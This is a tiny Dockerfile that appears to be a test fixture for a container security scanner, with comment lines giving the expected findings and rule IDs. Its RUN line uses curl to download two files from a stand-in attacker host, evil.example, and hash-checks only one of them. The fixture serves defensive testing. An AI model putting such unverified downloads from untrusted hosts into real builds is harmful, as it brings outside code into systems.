FROM alpine:3.20@sha256:aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa
RUN curl -o /a https://evil.example/a && curl -o /b https://evil.example/b && echo "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855  /b" | sha256sum -c -
USER app
# expect: download 2 high "curl fetches https://evil.example/a to /a: not verified"
# expect: download 2 low "curl fetches https://evil.example/b to /b: verified"
# expect-count: 4
# expect-ids: VR101-c33602e201 VR301-ada4fe58ba VR301-de733bf2dd VR501-e064bac1a6
